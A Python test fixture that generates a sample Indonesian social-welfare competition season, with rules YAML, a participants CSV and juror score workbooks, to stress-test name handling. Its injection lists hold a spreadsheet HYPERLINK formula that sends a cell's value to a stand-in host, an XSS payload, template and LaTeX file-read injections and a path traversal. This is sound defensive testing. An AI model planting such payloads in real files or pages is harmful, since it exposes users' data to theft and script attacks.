"""A season of all sizes: 1, 2 and 60 participants, 15 jurors, six stages, names that bite."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import xlsxwriter
import yaml

SEASON = "aneka-2024"
INJECTIONS = Path("hostile", "made", "55_names_injection.xlsx")
# Where the published file is not beside the project, names of the same kinds.
OWN_INJECTIONS = (
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")',
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% for x in (1, 2) %}x{% endfor %}",
    "\\input{/etc/passwd} $x_1$ #1 %",
    '#import "contoh.typ" *tebal* @rujuk <label>',
    "../../../../tmp/contoh",
)
LONG = ("Persatuankesejahteraansosial" * 5)[:120]
RARE = (
    "أحمد بن يوسف",
    "ʿAbd al-Raḥmān ibn Ḫalīl",
    "Ḥasan Ṣāliḥ & Şükrü Ğani",
    LONG,
    "=1+1",
    "{{7*7}}",
    "فاطمة الزهراء (Fatimah az-Zahra)",
)
REGIONS = (
    "Kabupaten Hulu Sungai Selatan",
    "=1+1 Kabupaten",
    "Kabupaten <b>Tanah</b> & Laut",
    "Kota {{7*7}}",
    "كوتا بنجربارو",
    "Kabupaten Ḥulu Ṣungai",
)
TITLES = ("Juara I", "Juara II", "Juara III", "Harapan I", "Harapan II", "Harapan III")
UNDECIDED = "tunda"


@dataclass(frozen=True)
class Competition:
    """A category of the season: its key and name, the names of its people, its panel and stages."""

    key: str
    name: str
    people: tuple[str, ...]
    jurors: int
    stages: int

    def marks(self, stage: int, juror: int) -> Iterator[tuple[float | None, float]]:
        """The two marks of everybody in a stage by one juror; one is missing where undecided."""
        for place in range(len(self.people)):
            first = 92 - place % 41 - place / 4 + (place * 7 + juror * 5 + stage * 3) % 11 / 4
            second = 90 - place % 37 - place / 4 + (place * 5 + juror * 3 + stage * 7) % 13 / 4
            empty = self.key == UNDECIDED and (stage, place, juror) == (1, 1, 2)
            yield None if empty else first, second


def injected(shared: Path) -> tuple[str, ...]:
    """The names of the published file, or our own of the same kinds where it is not there."""
    path = shared / INJECTIONS
    if not path.exists():
        return OWN_INJECTIONS
    sheet = openpyxl.load_workbook(path).worksheets[0]
    return tuple(str(row[2]) for row in sheet.iter_rows(11, 16, values_only=True))


def competitions(shared: Path) -> tuple[Competition, ...]:
    """The categories of the season."""
    crowd = tuple(f"Karang Taruna Bina Bersama Nomor {place:02}" for place in range(1, 61))
    return (
        Competition("satu", "Penyuluh Sosial", ("Siti Aminah, S.Sos.",), 3, 1),
        Competition("berdua", "Pilar & Rekan", ("Ahmad & Rusli", "Noor <b>Jannah</b>"), 3, 6),
        Competition("ramai", "Karang Taruna", crowd, 3, 1),
        Competition("panel", "Lembaga Kesejahteraan Sosial", (*RARE, *injected(shared)), 15, 1),
        Competition(UNDECIDED, "Pekerja Sosial Masyarakat", ("Melati", "Mawar", "Cempaka"), 3, 2),
    )


def make_odd_season(home: Path, shared: Path) -> Path:
    """Write the season into a home; gives the season's folder."""
    raw = home / "data" / "raw" / SEASON
    (raw / "scores").mkdir(parents=True)
    entered = competitions(shared)
    rules = _rules(entered)
    (raw / "rules.yaml").write_text(
        yaml.safe_dump(rules, allow_unicode=True, sort_keys=False), encoding="utf-8"
    )
    with (raw / "participants.csv").open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file, lineterminator="\n")
        writer.writerow(("id", "category", "region", "name"))
        for one in entered:
            for place, name in enumerate(one.people):
                code = f"{one.key}-{place + 1:02}"
                writer.writerow((code, one.key, REGIONS[place % len(REGIONS)], name))
    for one in entered:
        _write_sheets(raw / "scores", one)
    return raw


def _rules(entered: tuple[Competition, ...]) -> dict[str, object]:
    """The rule book, as YAML will hold it."""
    jurors = {
        f"J{place}": {"name": f"Dr. Hj. Juri Ke-{place:02} Ḥasanah, M.Si.", "role": "anggota"}
        for place in range(1, max(one.jurors for one in entered) + 1)
    }
    return {
        "season": "2024",
        "sample": True,
        "title": "CONTOH Seleksi Aneka Ukuran & Nama Tahun 2024",
        "basis": "CONTOH. Musim untuk pengujian.",
        "office": {"name": "Dinas Sosial Provinsi Kalimantan Selatan", "city": "Banjarbaru"},
        "signatories": {
            "head": {
                "name": "ʿAbd al-Ḥamīd, M.Si.", "title": "Kepala Dinas",
                "rank": "Pembina", "number": "0000",
            }
        },
        "publish": {"scores": "all", "examination": "internal"},
        "jurors": jurors,
        "categories": {one.key: _category(one, list(jurors)[: one.jurors]) for one in entered},
        "overall": {
            "name": "Juara Umum",
            "points": dict(zip(TITLES[:3], (5, 3, 1), strict=True)),
        },
    }  # fmt: skip


def _category(one: Competition, jurors: list[str]) -> dict[str, object]:
    share = 100 // one.stages
    return {
        "name": one.name,
        "jurors": jurors,
        "scale": {"min": 0, "max": 100, "decimals": 2},
        "stages": {
            f"tahap-{place}": {
                "name": f"Penilaian {place}",
                "date": f"2024-07-{place:02}",
                "weight": share if place < one.stages else 100 - share * (one.stages - 1),
                "criteria": {
                    "isi": {"name": "Isi dan manfaat", "weight": 60},
                    "cara": {"name": "Cara penyajian", "weight": 40},
                },
            }
            for place in range(1, one.stages + 1)
        },
        "missing": {"blank": "stop"},
        "ties": ["shared"],
        "titles": list(TITLES),
    }


def _write_sheets(folder: Path, one: Competition) -> None:
    """One workbook for each juror, with a sheet for each stage; names are texts in it."""
    for juror in range(1, one.jurors + 1):
        with xlsxwriter.Workbook(folder / f"{one.key} J{juror}.xlsx") as book:
            book.set_properties({"created": datetime(2024, 7, 23, tzinfo=UTC)})
            for stage in range(1, one.stages + 1):
                sheet = book.add_worksheet(f"Penilaian {stage}")
                head = ("LEMBAR NILAI", f"Kategori: {one.name}", f"Tahapan: Penilaian {stage}")
                sheet.write_column(0, 0, (*head, f"Juri: J{juror}"))
                sheet.write_row(5, 0, ("Kode", "Nama", "Isi dan manfaat", "Cara penyajian"))
                for place, marks in enumerate(one.marks(stage, juror)):
                    sheet.write_string(6 + place, 0, f"{one.key}-{place + 1:02}")
                    sheet.write_string(6 + place, 1, one.people[place])
                    sheet.write_row(6 + place, 2, marks)
